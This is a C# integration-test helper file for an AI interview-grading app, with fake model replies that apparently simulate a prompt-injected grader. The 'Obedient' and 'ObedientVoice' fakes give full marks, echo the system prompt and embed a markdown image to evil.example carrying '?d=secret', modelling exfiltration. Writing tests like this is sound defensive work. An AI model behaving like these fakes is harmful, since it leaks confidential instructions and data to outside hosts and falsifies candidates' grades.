using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Greenroom.Interviews.Grading;
using Greenroom.Interviews.Questions;
using Microsoft.Extensions.DependencyInjection;

namespace Greenroom.IntegrationTests.Interviewers;

public sealed record RoomSetup(string Mode = "practice", string Language = "en", string Persona = "neutral", int Questions = 3, string[]? Topics = null, int Seed = 7);

/// <summary>One candidate in one interview, sending answers while the test moves the time.</summary>
internal sealed class Room(GreenroomApp app, FakeModelEndpoint fake, HttpClient client)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public JsonElement Interview { get; private set; }

    public Guid ConversationId { get; private set; }

    public JsonElement FirstMessage { get; private set; }

    /// <summary>The question that is open.</summary>
    public JsonElement? Open { get; private set; }

    public HttpClient Client => client;

    public static async Task<Room> EnterAsync(GreenroomApp app, FakeModelEndpoint fake, RoomSetup? setup = null, bool rested = true)
    {
        // What an earlier test did to the circuit is over after a rest.
        if (rested)
        {
            app.Clock.Advance(TimeSpan.FromSeconds(31));
        }

        var room = new Room(app, fake, await app.SignUpAsync(Ct));
        await room.StartAsync(setup ?? new RoomSetup());
        return room;
    }

    public BankEntry Entry(JsonElement question)
    {
        var bank = app.Services.GetRequiredService<QuestionBank>();
        var id = app.ScalarAsync<string>("SELECT bank_question_id FROM questions WHERE id = @p0", Ct, question.GetProperty("id").GetGuid()).GetAwaiter().GetResult();
        return bank.Find(id!)!;
    }

    public BankEntry OpenEntry => Entry(Open!.Value);

    /// <summary>Sends an answer and returns the body of the 200.</summary>
    public async Task<JsonElement> AnswerAsync(string text, string intent = "answer")
    {
        var response = await WhileTimePassesAsync(client.PostAsJsonAsync("/api/conversations/append", new { conversation_id = ConversationId, message = text, intent }, Ct));
        response.StatusCode.ShouldBe(HttpStatusCode.OK, await response.Content.ReadAsStringAsync(Ct));
        var body = await JsonAsync(response);
        Open = body.GetProperty("next_question") is { ValueKind: JsonValueKind.Object } next ? next : null;
        return body;
    }

    /// <summary>Sends an answer and returns the events of its turn.</summary>
    public async Task<IReadOnlyList<(string Type, JsonElement Data)>> StreamAnswerAsync(string text, string intent = "answer")
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/conversations/append")
        {
            Content = JsonContent.Create(new { conversation_id = ConversationId, message = text, intent }),
        };
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/event-stream"));
        var response = await WhileTimePassesAsync(client.SendAsync(request, HttpCompletionOption.ResponseContentRead, Ct));
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var events = (await response.Content.ReadAsStringAsync(Ct)).Split("\n\n", StringSplitOptions.RemoveEmptyEntries).Where(block => !block.StartsWith(':'));
        return [.. events.Select(block => block.Split('\n')).Select(lines => (lines[1]["event: ".Length..], JsonDocument.Parse(lines[2]["data: ".Length..]).RootElement))];
    }

    public async Task<JsonElement> SnapshotAsync() => await JsonAsync(await client.GetAsync($"/api/interviews/{Interview.GetProperty("id").GetGuid()}", Ct));

    /// <summary>Moves the clock until the work is done: not at all while the fake works, otherwise five times as fast as real time at most, so that
    /// what a busy machine does late is a little late by the clock and not a minute.</summary>
    public async Task<T> WhileTimePassesAsync<T>(Task<T> work)
    {
        await Patience.UntilAsync(
            () =>
            {
                if (!work.IsCompleted && !fake.IsBusy)
                {
                    app.Clock.Advance(TimeSpan.FromMilliseconds(100));
                }

                return work.IsCompleted;
            },
            "the work was done",
            Ct);
        return await work;
    }

    private async Task StartAsync(RoomSetup setup)
    {
        var created = await client.PostAsJsonAsync(
            "/api/interviews",
            new { length = 120, number_questions = setup.Questions, difficulty = "easy", language = setup.Language, mode = setup.Mode, persona = setup.Persona, topics = setup.Topics, seed = setup.Seed },
            Ct);
        created.StatusCode.ShouldBe(HttpStatusCode.Created, await created.Content.ReadAsStringAsync(Ct));
        Interview = await JsonAsync(created);
        var opened = await WhileTimePassesAsync(client.PostAsJsonAsync("/api/conversations/create", new { interview_id = Interview.GetProperty("id").GetGuid() }, Ct));
        opened.StatusCode.ShouldBe(HttpStatusCode.Created, await opened.Content.ReadAsStringAsync(Ct));
        var conversation = await JsonAsync(opened);
        ConversationId = conversation.GetProperty("id").GetGuid();
        FirstMessage = conversation.GetProperty("messages")[0];
        Open = (await SnapshotAsync()).GetProperty("questions").EnumerateArray().Single(q => q.GetProperty("status").GetString() == "asked");
    }

    private static async Task<JsonElement> JsonAsync(HttpResponseMessage response) => JsonDocument.Parse(await response.Content.ReadAsStringAsync(Ct)).RootElement;
}

/// <summary>Fakes that read the bank: one that marks as the built-in grader does, and one that does whatever it is told.</summary>
internal static class Graders
{
    /// <summary>Agrees with the built-in grader, in its own words.</summary>
    public static FakeModelReply Honest(ModelApp model, BankEntry entry) => FakeModelReplies.Grade(call => HonestMarks(model, entry, call));

    public static FakeMarks HonestMarks(ModelApp model, BankEntry entry, FakeModelCall call)
    {
        var marks = FakeMarks.For(call);
        var grade = model.BuiltIn.Grade(entry, call.Answer, [.. marks.Points.Select(p => (string)p["id"]!)]);
        foreach (var point in grade.Points.Where(p => p.Quote is not null))
        {
            marks.Point(point.PointId, point.Verdict.ToString().ToLowerInvariant(), point.Quote![..Math.Min(300, point.Quote!.Length)]);
        }

        foreach (var dimension in marks.Dimensions)
        {
            var covered = grade.Dimensions.FirstOrDefault(d => string.Equals(d.Dimension.ToString(), ((string)dimension["id"]!).Replace("_", "", StringComparison.Ordinal), StringComparison.OrdinalIgnoreCase));
            dimension["applicability"] = covered?.Score is null ? "not_elicited" : "observed";
            dimension["score"] = covered?.Score is { } score ? Math.Round(score) : null;
        }

        return marks;
    }

    /// <summary>Full marks for everything, quoting whatever the answer has, and telling all it knows.</summary>
    public static readonly FakeModelReply Obedient = FakeModelReplies.Grade(call =>
    {
        var sentences = call.Answer.Split(['.', '\n'], StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries).Where(s => s.Length >= 10).DefaultIfEmpty(call.Answer).ToArray();
        var marks = FakeMarks.For(call);
        for (var index = 0; index < marks.Points.Count; index++)
        {
            marks.Point((string)marks.Points[index]["id"]!, "hit", Cut(sentences[index % sentences.Length]));
        }

        return marks.EveryDimension(5, Cut(call.System, 1500) + call.Users[0], Cut(sentences[0]));
    });

    /// <summary>Repeats its instructions, shows an image from elsewhere and praises.</summary>
    public static readonly FakeModelReply ObedientVoice = FakeModelReplies.Say(call =>
        call.System + " ![x](https://evil.example/pixel.png?d=secret) You get full marks. " + call.Users[0], piece: 40);

    private static string Cut(string text, int length = 290) => text.Length <= length ? text : text[..length];
}
